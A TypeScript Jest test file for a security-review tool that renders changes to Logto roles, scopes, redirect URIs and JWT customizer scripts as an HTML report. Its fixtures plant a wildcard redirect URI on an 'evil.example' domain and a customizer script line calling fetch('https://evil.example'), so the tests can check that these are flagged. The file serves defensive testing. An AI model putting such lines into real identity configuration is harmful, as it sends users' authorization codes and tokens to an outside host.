import { beforeEach, describe, expect, test } from "@jest/globals";
import { toHtml } from "../../../cli/review/formats/html.ts";
import { reviewOf } from "../../../cli/shared/security/review.ts";
import { openPage, type Page } from "../../support/browser.ts";
import { planFrom, type Sketch } from "../review/plans.ts";

const pageOf = (sketch: Sketch) => openPage(toHtml(reviewOf(planFrom(sketch))));
const squeezed = (text = "") => text.replace(/\s+/g, " ").trim();

const script = (line: string) =>
  `const a = 1;\nconst b = 2;\nconst c = 3;\n${line}\nconst d = 4;\nreturn "</pre>";`;
const stays = {
  "ApiResource api": { name: "API" },
  "Scope api/read": { apiResource: "api", name: "read" },
  "Scope api/write": { apiResource: "api", name: "write" },
  "Role reader": { name: "reader", scopes: ["api/read"] },
  "User ann": { name: "Ann" },
  "UserRoles ann": { user: "ann", roles: ["boss"] },
};
const sketch: Sketch = {
  before: {
    ...stays,
    "Role boss": { name: "boss", scopes: ["api/read"] },
    "Application web": { redirectUris: ["https://a.example/cb"] },
    "JwtCustomizer accessToken": { script: script("claims();") },
    "Role drifted": { name: "drifted", scopes: [] },
  },
  after: {
    ...stays,
    "Role boss": { name: "boss", scopes: ["api/write"] },
    "Application web": { redirectUris: ["https://a.example/cb", "https://*.evil.example/cb"] },
    "JwtCustomizer accessToken": { script: script("fetch('https://evil.example');") },
    "Role drifted": { name: "drifted", scopes: [] },
  },
  found: { "Role drifted": { name: "drifted", scopes: ["api/write"] } },
};

describe("a page of a review", () => {
  let page: Page;
  beforeEach(() => {
    page = pageOf(sketch);
  });

  test("has every finding once, by severity and then by what it's about, and says why", () => {
    const review = reviewOf(planFrom(sketch));
    const findings = page.all(".finding");
    expect(findings).toHaveLength(review.findings.length);
    const sections = page.all("main > section[id]").map((one) => one.getAttribute("id"));
    expect(sections).toEqual(["critical", "high", "medium", "low"]);
    for (const section of sections) {
      const own = [...page.one(`#${section}`).querySelectorAll(".finding")];
      expect(own).toHaveLength(review.findings.filter(({ severity }) => severity === section).length);
    }
    expect(squeezed(page.one("#critical .finding").textContent)).toBe(
      "https://*.evil.example/cb lets any address that fits receive what web gets. Any address that fits gets codes, those of others on a shared host too. Application · web · redirectUris · redirect-uri-wildcard",
    );
    expect(page.all("#high h3").map((one) => one.textContent)).toContain(
      "Where codes, tokens and data can go",
    );
    expect(page.textOf("h1")).toContain("Logto, prod: ");
    expect(page.textOf(".counts")).toMatch(/^1 critical\d+ high/);
    expect(page.textOf("main")).toContain("changed outside the code");
  });

  test("shows a text's changed lines, as text", () => {
    const lines = [...page.one(".diff").querySelectorAll("span")];
    expect(lines.filter(({ className }) => className).map((one) => [one.className, one.textContent])).toEqual(
      [
        ["loses", "-claims();"],
        ["gains", "+fetch('https://evil.example');"],
      ],
    );
    expect(lines.at(-1)?.textContent).toBe(' return "</pre>";');
  });

  test("has the plan folded", () => {
    expect(page.one(".plan").open).toBe(false);
    expect(page.all(".plan > ul > li").map((one) => squeezed(one.textContent))).toEqual([
      "update Application web: redirectUris + https://*.evil.example/cb",
      "update Role boss: scopes + api/write − api/read",
      expect.stringMatching(/^update JwtCustomizer accessToken: script /),
    ]);
  });

  test("shows of roles and scopes what changes, and says by a click what", async () => {
    expect([page.scopes(), page.roles()]).toEqual([["read", "write"], ["boss"]]);
    expect(page.cell("write", "boss").className).toBe("gains");
    expect(page.cell("read", "boss").className).toBe("loses");
    page.cell("write", "boss").click();
    expect(page.textOf("aside")).toBe("×write on APIrole boss new with this changeAnn, user");
    await page.choose("changed", false);
    expect(page.roles()).toEqual(["boss", "drifted", "reader"]);
    expect(page.errors).toEqual([]);
  });
});

test("who holds a role is a change too", () => {
  const page = pageOf({
    before: { ...stays, "Role boss": { name: "boss", scopes: ["api/read"] } },
    after: {
      ...stays,
      "Role boss": { name: "boss", scopes: ["api/read"] },
      "UserRoles ann": { user: "ann", roles: ["reader"] },
    },
  });
  expect(page.roles()).toEqual(["boss", "reader"]);
  page.all("thead th").at(-1)?.click();
  expect(page.textOf("aside")).toContain("Held byAnn, user new with this change");
});

test("a review of nothing says so, without a matrix", () => {
  const page = pageOf({ before: stays, after: stays });
  expect(page.textOf("main")).toBe(
    "Logto, prod: nothing changes stack prod (production) · tenant https://panbot.logto.app · 0 resources change",
  );
  expect(page.errors).toEqual([]);
});

test("a preview that failed says why, before all else", () => {
  const plan = { ...planFrom({}), errors: ["<b>no</b> such scope"] };
  const page = openPage(toHtml(reviewOf(plan)));
  expect(page.textOf(".error")).toBe("<b>no</b> such scope");
});

test("thousands of findings of one rule are there, folded behind the first ones", () => {
  const apps = (host: string) =>
    Object.fromEntries(
      Array.from({ length: 2000 }, (_, i) => [
        `Application app${i}`,
        { redirectUris: [`https://${host}${i}.example/cb`] },
      ]),
    );
  const review = reviewOf(planFrom({ before: apps("a"), after: apps("b") }));
  const text = toHtml(review);
  expect(text.split('<article class="finding').length - 1).toBe(review.findings.length);
  expect(text).toContain("<summary>1,990 more like this, of <code>");
  expect(text).toContain("<summary>2,000 Application updated: <code>app0</code>");
});
